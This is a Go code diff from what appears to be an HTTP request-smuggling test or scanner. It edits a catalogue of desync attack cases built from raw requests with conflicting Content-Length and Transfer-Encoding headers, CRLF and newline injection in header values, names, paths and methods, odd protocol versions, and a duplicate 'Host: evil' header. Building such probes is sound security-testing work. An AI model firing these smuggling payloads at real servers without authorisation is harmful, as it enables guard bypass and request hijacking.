@@ -79,11 +79,10 @@ func smuggleAttacks(t *Target) []Attack {
 func smuggledHeads(t *Target, inner string) []Attack {
 	var out []Attack
 	for id, raw := range map[string]string{
-		"get-with-body":  "GET " + t.Guarded + "smuggle HTTP/1.1\r\n{head}" + "Content-Length: {length}\r\n\r\n" + inner,
 		"http-1.0":       "POST " + t.Guarded + "smuggle HTTP/1.0\r\n{head}Transfer-Encoding: chunked\r\n\r\n0\r\n\r\n" + inner,
 		"http-0.9":       "GET " + t.Guarded + "{smuggled}\r\n\r\n" + inner,
 		"http-1.2":       "POST " + t.Guarded + "smuggle HTTP/1.2\r\n{head}Transfer-Encoding: chunked\r\n\r\n0\r\n\r\n" + inner,
-		"newline-target": "GET " + t.Guarded + "smuggle\nX HTTP/1.1\r\n{head}\r\n" + inner,
+		"newline-target": "GET " + t.Guarded + "{smuggled}\nX HTTP/1.1\r\n{head}\r\n" + inner,
 		"space-target":   "GET " + t.Guarded + "smuggle HTTP/1.1\r\nX: a HTTP/1.1\r\n{head}\r\n" + inner,
 		"leading-crlf":   "\r\n\r\nGET " + t.Guarded + "smuggle HTTP/1.1\r\n{head}\r\n" + inner,
 		"two-hosts":      "GET " + t.Guarded + "smuggle HTTP/1.1\r\nHost: evil\r\n{head}\r\n" + inner,
@@ -118,25 +117,21 @@ func smuggleFrameAttacks(t *Target) []Attack {
 	}
 	add("te", "0\r\n\r\n"+inner, Field{"transfer-encoding", "chunked"})
 	add("cl-short", inner, Field{"content-length", "0"})
-	add("cl-long", inner, Field{"content-length", "9999"})
 	add("cl-twice", inner, Field{"content-length", "0"}, Field{"content-length", "5"})
 	add("newline-in-value", "", Field{"x", "a\r\n\r\n" + inner})
 	add("lf-in-value", "", Field{"x", "a\n\n" + strings.ReplaceAll(inner, "\r", "")})
 	add("newline-in-name", "", Field{"x: a\r\n\r\n" + inner + "y", "z"})
 	add("te-in-value", "0\r\n\r\n"+inner, Field{"x", "a\r\nTransfer-Encoding: chunked"})
-	for id, path := range map[string]string{
-		"newline-in-path": t.Guarded + "x HTTP/1.1\r\nHost: {host}\r\n\r\n" + inner,
-		"space-in-path":   t.Guarded + "x HTTP/1.1 " + t.Guarded + "{smuggled}",
-		"relative-path":   strings.TrimPrefix(t.Guarded, "/") + "{smuggled}",
-	} {
+	head := func(id string, request Request) {
 		out = append(out, Attack{
-			ID: "smuggle/frame-" + id, Mechanism: smuggleMechanism, Protocols: multiplexed, Needs: []Control{admitted, guarded}, Judge: desynchronised,
-			Request: anonymous(path),
+			ID: "smuggle/frame-" + id, Mechanism: smuggleMechanism, Protocols: multiplexed, Needs: []Control{admitted, guarded}, Judge: desynchronised, Request: request,
 		})
 	}
-	method := anonymous(t.Guarded + "x")
+	head("newline-in-path", get(t.Guarded+"x HTTP/1.1\r\nHost: {host}\r\n\r\n"+inner))
+	head("space-in-path", get(t.Guarded+"x HTTP/1.1 "+t.Guarded+"{smuggled}"))
+	head("relative-path", anonymous(strings.TrimPrefix(t.Guarded, "/")+"{smuggled}"))
+	method := get(t.Guarded + "x")
 	method.Method = "GET " + t.Guarded + "{smuggled} HTTP/1.1\r\nX: "
-	return append(out, Attack{
-		ID: "smuggle/frame-newline-in-method", Mechanism: smuggleMechanism, Protocols: multiplexed, Needs: []Control{admitted, guarded}, Judge: desynchronised, Request: method,
-	})
+	head("newline-in-method", method)
+	return out
 }
